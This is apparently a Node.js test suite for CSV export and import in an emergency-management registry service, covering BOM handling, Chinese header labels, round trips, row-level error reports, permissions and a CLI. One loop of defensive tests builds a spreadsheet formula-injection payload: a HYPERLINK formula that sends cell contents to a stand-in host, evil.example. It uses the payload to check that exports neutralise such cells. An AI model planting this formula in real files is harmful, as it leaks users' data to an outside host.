// 06 — CSV export and import (HTTP and CLI).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  setupServer, REGISTRIES, M2_REGISTRIES, M3_REGISTRIES, regSchema, validRecord, assertError, desc, uniq, count, cli, csvDoc,
  csvValue, anyEnterprise, csvColumns, parseCsv,
} from './harness.mjs';

const S = setupServer();
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

async function importCsv(reg, text, { skipBad = false, auth } = {}) {
  return S.api('POST', `/api/v1/registries/${reg}/import${skipBad ? '?skip_bad=1' : ''}`, {
    auth: auth ?? await S.as('admin'), body: text, headers: { 'content-type': 'text/csv; charset=utf-8' },
  });
}

// Rows for shelter: header (labels as the export writes them, or field names) + records.
async function shelterRows(n, { labels = true, mutate = {} } = {}) {
  const schema = await S.schema();
  const rs = regSchema(schema, 'shelter');
  const ccols = await csvColumns(S, 'shelter');
  const cols = ccols.map((c) => c.name);
  const byName = Object.fromEntries(rs.fields.map((f) => [f.name, f]));
  const header = ccols.map((c) => (labels ? c.header : c.name));
  const recs = [];
  const rows = [];
  for (let i = 0; i < n; i++) {
    const r = validRecord(schema, 'shelter', { name: uniq(`导入避难场所${i}-`) });
    if (mutate[i]) mutate[i](r);
    recs.push(r);
    rows.push(cols.map((c) => csvValue(byName[c], r[c])));
  }
  return { header, rows, recs, cols };
}

test('export: UTF-8 BOM, Chinese header labels, attachment, every registry', async () => {
  const admin = await S.as('admin');
  const schema = await S.schema();
  for (const reg of [...REGISTRIES, ...M3_REGISTRIES]) {
    const r = await S.api('GET', `/api/v1/registries/${reg}/export.csv`, { auth: admin });
    assert.equal(r.status, 200, `${reg}: ${desc(r)}`);
    assert.match(r.headers.get('content-type') ?? '', /^text\/csv/);
    assert.match(r.headers.get('content-disposition') ?? '', /attachment/);
    assert.deepEqual(r.buf.subarray(0, 3), BOM, `${reg} starts with BOM`);
    const header = r.buf.subarray(3).toString('utf8').split(/\r?\n/)[0];
    const rs = regSchema(schema, reg);
    for (const f of rs.fields) assert.ok(header.includes(f.label), `${reg} header has ${f.label}: ${header}`);
    assert.ok(!/(^|,)name(,|$)/.test(header), `${reg} header uses labels, not field names`);
    const lines = r.buf.subarray(3).toString('utf8').split(/\r?\n/).filter((l) => l.length);
    if (reg !== 'duty_contact') assert.ok(lines.length >= 2, `${reg} demo data exported`);
  }
});

test('export honours filters', async () => {
  const admin = await S.as('admin');
  const name = uniq('过滤导出');
  const schema = await S.schema();
  const c = await S.api('POST', '/api/v1/registries/shelter', { auth: admin, body: validRecord(schema, 'shelter', { name }) });
  assert.equal(c.status, 201, desc(c));
  const r = await S.api('GET', `/api/v1/registries/shelter/export.csv?q=${encodeURIComponent(name)}`, { auth: admin });
  const lines = r.text.replace(/^\uFEFF/, '').split(/\r?\n/).filter((l) => l.length);
  assert.equal(lines.length, 2, `header + 1 row: ${r.text}`);
  assert.ok(lines[1].includes(name));
});

// A cell a spreadsheet would read as a formula (=, +, -, @, tab, CR first)
// is exported with a leading apostrophe, and read back without it.
for (const [name, ch] of [['=', '='], ['+', '+'], ['-', '-'], ['@', '@'], ['tab', '\t'], ['CR', '\r']]) {
  test(`export neutralises a cell starting with ${name}; import takes it back`, async () => {
    const admin = await S.as('admin');
    const schema = await S.schema();
    const team = uniq('公式队伍');
    const equipment = `${ch}HYPERLINK("http://evil.example/?x="&A1,"点击")`;
    const c = await S.api('POST', '/api/v1/registries/rescue_team', { auth: admin, body: validRecord(schema, 'rescue_team', { name: team, override: { equipment } }) });
    assert.equal(c.status, 201, desc(c));
    assert.equal(c.json.equipment, equipment);
    const ex = await S.api('GET', `/api/v1/registries/rescue_team/export.csv?q=${encodeURIComponent(team)}`, { auth: admin });
    assert.equal(ex.status, 200, desc(ex));
    const rows = parseCsv(ex.text);
    assert.equal(rows.length, 2, ex.text);
    const col = rows[0].indexOf('主要装备');
    assert.ok(col >= 0, rows[0].join(','));
    assert.equal(rows[1][col], `'${equipment}`, 'the cell starts with an apostrophe');
    const im = await importCsv('rescue_team', ex.buf);
    assert.equal(im.status, 200, desc(im));
    assert.equal(im.json.updated, 0, desc(im));
    const g = await S.api('GET', `/api/v1/registries/rescue_team/${c.json.id}`, { auth: admin });
    assert.equal(g.json.equipment, equipment, 'the apostrophe is not kept on import');
  });
}

for (const reg of [...REGISTRIES, ...M3_REGISTRIES]) {
  test(`round trip ${reg}: importing the export creates nothing`, async () => {
    const admin = await S.as('admin');
    if (reg === 'hazard_source') await anyEnterprise(S);
    // make sure there is a record with Chinese, quotes and commas
    const schema = await S.schema();
    const refs = reg === 'hazard_source' ? { enterprise: await anyEnterprise(S) } : undefined;
    const body = validRecord(schema, reg, { refs, name: uniq('逗号,引号"测试') });
    const c = await S.api('POST', `/api/v1/registries/${reg}`, { auth: admin, body });
    assert.equal(c.status, 201, desc(c));
    const ex = await S.api('GET', `/api/v1/registries/${reg}/export.csv?limit=1000`, { auth: admin });
    assert.equal(ex.status, 200, desc(ex));
    const before = await count(S, reg);
    const im = await importCsv(reg, ex.buf);
    assert.equal(im.status, 200, desc(im));
    assert.equal(im.json.created, 0, `created: ${desc(im)}`);
    assert.deepEqual(im.json.errors, [], 'no errors');
    assert.equal(im.json.skipped, 0);
    assert.equal(await count(S, reg), before, 'no duplicates');
    assert.equal(im.json.updated, 0, `export→import should be lossless (updated=${im.json.updated}, unchanged=${im.json.unchanged})`);
    const g = await S.api('GET', `/api/v1/registries/${reg}/${c.json.id}`, { auth: admin });
    assert.deepEqual(g.json, c.json, 'record unchanged by re-import');
  });
}

test('import with 2 bad rows → 422 with report, nothing written', async () => {
  const { header, rows, cols } = await shelterRows(5, {
    mutate: { 1: (r) => { r.class = '豪华型'; }, 3: (r) => { r.manager = ''; } },
  });
  const before = await count(S, 'shelter');
  const r = await importCsv('shelter', csvDoc([header, ...rows]));
  assertError(r, 422, 'invalid');
  const rep = r.json.report;
  assert.ok(rep && Array.isArray(rep.errors), `report: ${desc(r)}`);
  assert.equal(rep.errors.length, 2, `two bad rows: ${JSON.stringify(rep.errors)}`);
  const schema = await S.schema();
  const rs = regSchema(schema, 'shelter');
  const lab = (n) => rs.fields.find((f) => f.name === n).label;
  // rows 2 and 4 of the data = lines 3 and 5 of the file (header is line 1)
  const [e1, e2] = [...rep.errors].sort((a, b) => a.row - b.row);
  const offset = e1.row - 2;
  assert.ok(offset === 0 || offset === 1, `row numbering (data rows or file lines): ${JSON.stringify(rep.errors)}`);
  assert.equal(e2.row, 4 + offset, 'second bad row');
  assert.ok([`class`, lab('class')].includes(e1.column), `column of bad enum: ${e1.column}`);
  assert.ok([`manager`, lab('manager')].includes(e2.column), `column of missing field: ${e2.column}`);
  for (const e of rep.errors) assert.ok(typeof e.reason === 'string' && e.reason.length > 0, 'reason');
  assert.equal(await count(S, 'shelter'), before, 'nothing written');
  assert.ok(cols.length > 0);
});

test('import with skip_bad=1 → good rows imported, skipped=2', async () => {
  const { header, rows, recs } = await shelterRows(5, {
    mutate: { 0: (r) => { r.capacity = 'lots'; }, 4: (r) => { r.phone = '123'; } },
  });
  const before = await count(S, 'shelter');
  const r = await importCsv('shelter', csvDoc([header, ...rows]), { skipBad: true });
  assert.equal(r.status, 200, desc(r));
  assert.equal(r.json.created, 3);
  assert.equal(r.json.skipped, 2);
  assert.equal(r.json.errors.length, 2);
  assert.equal(await count(S, 'shelter'), before + 3);
  const admin = await S.as('admin');
  for (const [i, rec] of recs.entries()) {
    const l = await S.api('GET', `/api/v1/registries/shelter?q=${encodeURIComponent(rec.name)}`, { auth: admin });
    assert.equal(l.json.total, i === 0 || i === 4 ? 0 : 1, `row ${i}`);
    if (l.json.total) {
      assert.equal(l.json.items[0].capacity, rec.capacity);
      assert.equal(l.json.items[0].region_code, rec.region_code);
    }
  }
});

test('import without BOM, with field-name header, and updates by natural key', async () => {
  const { header, rows, recs, cols } = await shelterRows(3, { labels: false });
  const before = await count(S, 'shelter');
  const r = await importCsv('shelter', csvDoc([header, ...rows], { bom: false }));
  assert.equal(r.status, 200, desc(r));
  assert.equal(r.json.created, 3);
  assert.equal(await count(S, 'shelter'), before + 3);
  // same file again: unchanged
  const again = await importCsv('shelter', csvDoc([header, ...rows], { bom: false }));
  assert.equal(again.status, 200, desc(again));
  assert.equal(again.json.created, 0);
  assert.equal(again.json.unchanged, 3);
  // change one row: updated
  const ci = cols.indexOf('capacity');
  rows[1][ci] = 4321;
  const upd = await importCsv('shelter', csvDoc([header, ...rows]));
  assert.equal(upd.json.updated, 1, desc(upd));
  assert.equal(upd.json.unchanged, 2);
  const l = await S.api('GET', `/api/v1/registries/shelter?q=${encodeURIComponent(recs[1].name)}`, { auth: await S.as('admin') });
  assert.equal(l.json.items[0].capacity, 4321);
});

test('malformed CSV and wrong content', async () => {
  const before = await count(S, 'shelter');
  const { header, rows } = await shelterRows(1);
  const bad = [
    csvDoc([header]).replace(/\r\n$/, '') + '\r\n"unterminated,quote\r\n',
    csvDoc([['no_such_column', ...header.slice(1)], ...rows]),
    '',
  ];
  for (const text of bad) {
    const r = await importCsv('shelter', text);
    assertError(r, [400, 422]);
  }
  assert.equal(await count(S, 'shelter'), before);
  const ct = await S.api('POST', '/api/v1/registries/shelter/import', { auth: await S.as('admin'), body: '{"a":1}', headers: { 'content-type': 'application/json' } });
  assertError(ct, [400, 415]);
});

test('import respects permissions and region scope', async () => {
  const { header, rows } = await shelterRows(2);
  const before = await count(S, 'shelter');
  assertError(await importCsv('shelter', csvDoc([header, ...rows]), { auth: await S.as('commander') }), 403, 'forbidden');
  // county user importing rows of another county: rows refused
  const gp = await shelterRows(2, { mutate: { 0: (r) => { r.region_code = '140581'; } } });
  const r = await importCsv('shelter', csvDoc([gp.header, ...gp.rows]), { auth: await S.as('duty_zezhou') });
  assert.ok([403, 422].includes(r.status), desc(r));
  assert.equal(await count(S, 'shelter'), before, 'nothing written');
});

test('CLI import --skip-bad reports like the API; without it writes nothing', async () => {
  const { header, rows, recs } = await shelterRows(4, {
    mutate: { 1: (r) => { r.class = '不存在'; }, 2: (r) => { delete r.name; r.name = ''; } },
  });
  const file = join(S.dir, 'cli.csv');
  writeFileSync(file, csvDoc([header, ...rows]));
  const before = await count(S, 'shelter');

  const strict = cli(['import', 'shelter', file, '--db', S.db]);
  assert.notEqual(strict.status, 0, `strict import of a bad file fails: ${strict.stdout}`);
  const out1 = strict.stdout + strict.stderr;
  assert.match(out1, /3/, 'mentions row 3 (or data row 2)');
  assert.equal(await count(S, 'shelter'), before, 'nothing written');

  const r = cli(['import', 'shelter', file, '--db', S.db, '--skip-bad']);
  assert.equal(r.status, 0, `skip-bad: ${r.stdout}\n${r.stderr.slice(-2000)}`);
  const out = r.stdout + r.stderr;
  let rep = null;
  try { rep = JSON.parse(r.stdout); } catch { /* text */ }
  if (rep) {
    assert.equal(rep.created, 2);
    assert.equal(rep.skipped, 2);
    assert.equal(rep.errors.length, 2);
  } else {
    assert.match(out, /created\D{0,5}2\b/i, `created 2: ${out}`);
    assert.match(out, /skipped\D{0,5}2\b/i, `skipped 2: ${out}`);
  }
  assert.equal(await count(S, 'shelter'), before + 2);
  const admin = await S.as('admin');
  const l = await S.api('GET', `/api/v1/registries/shelter?q=${encodeURIComponent(recs[3].name)}`, { auth: admin });
  assert.equal(l.json.total, 1);
});

test('CLI export writes the same CSV as the API', async () => {
  const r = cli(['export', 'warehouse', '--db', S.db]);
  assert.equal(r.status, 0, r.stderr);
  const api = await S.api('GET', '/api/v1/registries/warehouse/export.csv?limit=1000', { auth: await S.as('admin') });
  assert.ok(r.stdout.startsWith('\uFEFF'), 'CLI export has BOM');
  const norm = (s) => s.replace(/^\uFEFF/, '').split(/\r?\n/).filter(Boolean).sort();
  assert.deepEqual(norm(r.stdout), norm(api.text));
});

// References travel as the referenced record's natural key: a hazard source
// names its enterprise by 统一社会信用代码 in the export, and an import may
// use that code (or an id); a code that names no visible enterprise is the
// row's error and nothing is written.
test('hazard sources name their enterprise by credit code in CSV', async () => {
  const admin = await S.as('admin');
  const entId = await anyEnterprise(S, '140525');
  const ent = (await S.api('GET', `/api/v1/registries/enterprise/${entId}`, { auth: admin })).json;
  const exp = await S.api('GET', '/api/v1/registries/hazard_source/export.csv?limit=1000', { auth: admin });
  assert.equal(exp.status, 200);
  const rows = parseCsv(exp.text.replace(/^\uFEFF/, ''));
  const col = rows[0].indexOf('所属企业');
  assert.ok(col >= 0, `header has 所属企业: ${rows[0]}`);
  assert.ok(rows.slice(1).every((r) => /^[0-9A-Z]{18}$/.test(r[col])), 'exported as credit codes, not ids');

  const code = uniq('HZ');
  const header = ['危险源名称', '备案编号', '所属企业', '危险源等级', '类型', '责任人', '责任人电话', '区划代码'];
  const good = ['测试储罐区', code, ent.credit_code, '三级', '危险化学品储罐区', '王五', '13912345678', '140525'];
  const before = await count(S, 'hazard_source');
  const bad = ['测试库区', `${code}B`, '91140525000000000X', '四级', '危险化学品库区', '赵六', '13912345679', '140525'];
  const r1 = await importCsv('hazard_source', csvDoc([header, good, bad]));
  assert.equal(r1.status, 422, desc(r1));
  assert.equal(r1.json.report.errors.length, 1);
  assert.equal(r1.json.report.errors[0].row, 3);
  assert.equal(r1.json.report.errors[0].column, '所属企业');
  assert.equal(await count(S, 'hazard_source'), before, 'nothing written');

  const r2 = await importCsv('hazard_source', csvDoc([header, good]));
  assert.equal(r2.status, 200, desc(r2));
  assert.equal(r2.json.created, 1);
  const l = await S.api('GET', `/api/v1/registries/hazard_source?code=${encodeURIComponent(code)}`, { auth: admin });
  assert.equal(l.json.items[0].enterprise_id, entId, 'resolved to the enterprise id');
  // an id still works, and re-importing by id changes nothing
  const r3 = await importCsv('hazard_source', csvDoc([header, [...good.slice(0, 2), String(entId), ...good.slice(3)]]));
  assert.equal(r3.status, 200, desc(r3));
  assert.equal(r3.json.unchanged, 1);
});

// M2 registries: monitored objects and sensors travel through CSV like the
// others; a sensor row names its object by the object's code (natural key).
for (const reg of M2_REGISTRIES) {
  test(`M2 ${reg}: export has BOM and labels, re-import of the export changes nothing`, async () => {
    const admin = await S.as('admin');
    const ex = await S.api('GET', `/api/v1/registries/${reg}/export.csv?limit=200`, { auth: admin });
    assert.equal(ex.status, 200, desc(ex));
    assert.deepEqual(ex.buf.subarray(0, 3), BOM);
    const rows = parseCsv(ex.buf.subarray(3).toString('utf8'));
    assert.ok(rows.length >= 3, `${reg}: demo rows exported`);
    const rs = regSchema(await S.schema(), reg);
    for (const f of rs.fields) assert.ok(rows[0].includes(f.label), `${reg} header has ${f.label}`);
    const before = await count(S, reg);
    const im = await importCsv(reg, ex.buf);
    assert.equal(im.status, 200, desc(im));
    assert.deepEqual([im.json.created, im.json.updated, im.json.skipped], [0, 0, 0], desc(im));
    assert.equal(await count(S, reg), before);
  });
}

test('M2 sensor import: new sensors by object code; a bad type or range is reported by row and column', async () => {
  const admin = await S.as('admin');
  const ex = await S.api('GET', '/api/v1/registries/sensor/export.csv?limit=2', { auth: admin });
  const [header, row] = parseCsv(ex.buf.subarray(3).toString('utf8'));
  const rs = regSchema(await S.schema(), 'sensor');
  const col = (name) => header.indexOf(rs.fields.find((f) => f.name === name).label);
  assert.ok(col('code') >= 0 && col('type') >= 0 && col('range_hi') >= 0, header.join(','));
  const fresh = (i) => { const r = [...row]; r[col('code')] = uniq(`CSV-SEN-${i}-`); r[col('name')] = `导入传感器${i}`; return r; };
  const good = fresh(0);
  const badType = fresh(1); badType[col('type')] = '不存在的类型';
  const badRange = fresh(2); badRange[col('range_lo')] = 'abc';
  const before = await count(S, 'sensor');
  let r = await importCsv('sensor', csvDoc([header, good, badType, badRange]));
  assertError(r, 422, 'invalid');
  const errs = [...r.json.report.errors].sort((a, b) => a.row - b.row);
  assert.equal(errs.length, 2, JSON.stringify(errs));
  assert.ok([rs.fields.find((f) => f.name === 'type').label, 'type'].includes(errs[0].column), JSON.stringify(errs[0]));
  assert.ok([rs.fields.find((f) => f.name === 'range_lo').label, 'range_lo'].includes(errs[1].column), JSON.stringify(errs[1]));
  assert.equal(await count(S, 'sensor'), before, 'nothing written from a file with errors');
  r = await importCsv('sensor', csvDoc([header, good, badType, badRange]), { skipBad: true });
  assert.equal(r.status, 200, desc(r));
  assert.equal(r.json.created, 1);
  const made = await S.api('GET', `/api/v1/registries/sensor?code=${encodeURIComponent(good[col('code')])}`, { auth: admin });
  assert.equal(made.json.total, 1);
  assert.equal(made.json.items[0].type, row[col('type')]);
});
